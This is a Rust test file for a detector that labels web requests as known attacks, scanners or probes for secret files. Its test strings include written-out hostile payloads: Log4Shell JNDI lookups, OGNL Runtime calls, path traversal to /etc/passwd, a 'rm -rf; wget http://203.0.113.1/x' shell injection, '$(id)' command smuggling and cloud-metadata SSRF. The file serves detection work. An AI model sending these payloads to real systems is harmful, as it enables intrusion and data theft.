use super::*;

fn parts(target: &str, refused: bool) -> Parts<'_> {
    let (path, query) = target.split_once('?').map_or((target, None), |(path, query)| (path, Some(query)));
    Parts { path, query, user_agent: Some("Mozilla/5.0 (X11)"), referrer: None, refused }
}

fn name(parts: &Parts<'_>) -> Option<&'static str> {
    look(parts).map(|found| found.name)
}

#[test]
fn exploits_are_known_whatever_the_answer_was() {
    let check = |target: &str, expected: &str| {
        for refused in [false, true] {
            assert_eq!(name(&parts(target, refused)), Some(expected), "{target}");
        }
    };
    check("/x?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.1%2Fa%7D", "jndi lookup");
    check(
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29",
        "expression language",
    );
    check("/a?class.module.classLoader.URLs%5B0%5D=0", "expression language");
    check("/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", "path traversal");
    check("/a/%252e%252e/%252e%252e/%252e%252e/b", "path traversal");
    check("/a/..%5c..%5c..%5cwindows", "path traversal");
    check("/files?name=..%2f..%2f..%2fetc%2fpasswd", "path traversal");
    check("/etc/passwd%3f", "system file");
    check("/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", "php");
    check("/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.1/x", "shell command");
    check("/logo?url=http%3A%2F%2F169.254.169.254%2Flatest", "cloud metadata");
    check("/search?q=1%27+UNION+SELECT+password", "sql");
    check("/search?q=%3Cscript%3E", "script");
    check("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "php");
    check("/vendor/htmlawed/htmlawed/htmLawedTest.php", "php");
    check("/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css", "php");
    check("/wp-content/uploads/2024/05/wso.php", "web shell");
    check("/search?q=%24%7Bscript%3Ajavascript%3A1%7D", "text lookup");
    check("/ping?host=127.0.0.1$(id)", "shell command");
}

#[test]
fn what_is_searched_for_counts_only_where_it_was_not_found() {
    let check = |target: &str, expected: &str| {
        assert_eq!(name(&parts(target, true)), Some(expected), "{target}");
        assert_eq!(name(&parts(target, false)), None, "{target}");
    };
    check("/.env", "secret file");
    check("/app/.git/config", "secret file");
    check("/Telerik.Web.UI.WebResource.axd?type=rau", "program with a known hole");
    check("/wp-content/plugins/x/readme.txt", "weblog software");
    check("/phpMyAdmin/index.php", "database tool");
    check("/s/x/_/;/WEB-INF/web.xml", "program with a known hole");
    check("/remote_agent.php?action=polldata", "program with a known hole");
}

#[test]
fn scanners_and_headers() {
    let with = |user_agent, referrer| name(&Parts { user_agent, referrer, ..parts("/", false) });
    assert_eq!(with(Some("Mozilla/5.00 (Nikto/2.1.5)"), None), Some("scanner"));
    assert_eq!(with(Some("sqlmap/1.7"), None), Some("scanner"));
    assert_eq!(with(Some("Mozilla/5.0 ${jndi:ldap://x}"), None), Some("jndi lookup"));
    assert_eq!(with(None, Some("${jndi:${lower:l}dap://x}")), Some("jndi lookup"));
    assert_eq!(with(Some("curl/8.5"), Some("https://example.com/?a=$b")), None);
}

#[test]
fn ordinary_requests_are_not_signatures() {
    let targets = [
        "/",
        "/api/v1/invoices/7?page=2&sort=-date",
        "/.well-known/acme-challenge/FMuukC2JOJ5HKmLBujjE_BkDo",
        "/search?q=caf%C3%A9+%26+bar",
        "/api/items?filter=name%20eq%20%27Smith%27",
        "/api/items?$filter=price%20gt%205",
        "/docs/select-union-members",
        "/orders;v=2/line",
        "/r?url=https%3A%2F%2Fexample.com%2Fa%2Fb",
        "/remote.php/dav/addressbooks/users/alice/x.vcf?photo",
        "/apps/files_sharing/publicpreview/x?file=%2FNAME.mp3&x=64",
        "/items/5203a7e70b667d2c/Images/Primary?MaxHeight=330&tag=a%20b",
        "/a/b.html%3Fnot-a-query",
        "/%E2%82%AC/%F0%9F%98%80",
        "/index.php?page=2",
        "/shop/cart.aspx?item=7",
        "/forum/viewtopic.php?t=12&sid=abc",
        "/favicon.ico",
        "/robots.txt",
        "/apple-touch-icon-precomposed.png",
    ];
    for target in targets {
        for refused in [false, true] {
            assert_eq!(look(&parts(target, refused)), None, "{target}");
        }
    }
}

#[test]
fn every_word_is_found_as_it_stands_and_is_lower_case() {
    for (words, search) in [(PAYLOADS, &*PAYLOAD), (TARGETS, &*TARGET), (AGENTS, &*AGENT)] {
        assert!(search.automaton.is_some());
        for word in words {
            assert_eq!(word.text, word.text.to_ascii_lowercase());
            assert!(word.weight > 0.5 && word.weight <= 3.0 && word.text.len() >= 3, "{word:?}");
            let found = search.strongest(word.text.as_bytes());
            assert!(found.is_some_and(|found| found.weight >= word.weight), "{word:?}");
        }
    }
}

#[test]
fn long_texts_are_looked_at_in_part_and_odd_ones_harm_nothing() {
    let long = format!("/{}/etc/passwd%", "é".repeat(LOOKED_AT_MAX));
    assert_eq!(look(&parts(&long, true)), None);
    for odd in ["%", "%2", "%zz", "\u{0}", "%%%25%2525", "\\", "?", "\u{10ffff}%ff%fe"] {
        look(&parts(odd, true));
    }
}
